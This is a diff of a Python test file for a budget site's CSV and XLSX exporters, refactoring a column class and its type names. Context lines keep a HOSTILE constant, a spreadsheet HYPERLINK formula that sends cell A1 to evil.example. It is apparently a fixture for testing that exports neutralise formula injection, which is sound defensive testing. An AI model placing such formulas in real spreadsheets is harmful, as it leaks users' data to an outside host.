@@ -20,11 +20,12 @@ from budgetsite.export.csv import BOM, neutralise, to_csv
 from budgetsite.export.files import SCHEMA_FILES
 from budgetsite.export.jsonapi import record_json
 from budgetsite.export.schema import collection_schema, index_schema, record_schema
-from budgetsite.export.tables import Col, Table, indicator_rows, project_rows
+from budgetsite.export.tables import indicator_rows, project_rows
 from budgetsite.export.xlsx import to_xlsx
 from budgetsite.load import parse_record
 from budgetsite.model import Record, schema_fields
 from budgetsite.render.reference import documented_classes
+from budgetsite.tables import Column, Table
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
 
@@ -50,7 +51,7 @@ def hostile_record(tmp_path: Path) -> Record:
 # -- CSV ---------------------------------------------------------------------------------
 
 def test_csv_has_bom_crlf_and_exact_decimals() -> None:
-    table = Table("t", (Col("a", "名称"), Col("b", "金额", "decimal"), Col("c", "数量", "int")),
+    table = Table("t", (Column("a", "名称"), Column("b", "金额", "amount"), Column("c", "数量", "count")),
                   (("甲", Decimal("5.00"), 3), ("乙", Decimal("0"), 0), ("丙", Decimal("-1.50"), 1), ("丁", None, 2)))
     data = to_csv(table)
     assert data[:3] == b"\xef\xbb\xbf"
@@ -98,7 +99,7 @@ def test_xlsx_is_byte_for_byte_reproducible(archive) -> None:
 
 
 def test_xlsx_numbers_are_numeric_with_the_records_decimal_places() -> None:
-    table = Table("t", (Col("a", "金额", "decimal"), Col("b", "名称")),
+    table = Table("t", (Column("a", "金额", "amount"), Column("b", "名称")),
                   ((Decimal("5.00"), "x"), (Decimal("12.5"), "y"), (Decimal("0"), "z"), (Decimal("1234567890123456.78"), "big")))
     wb = openpyxl.load_workbook(io.BytesIO(to_xlsx([table])))
     ws = wb["t"]
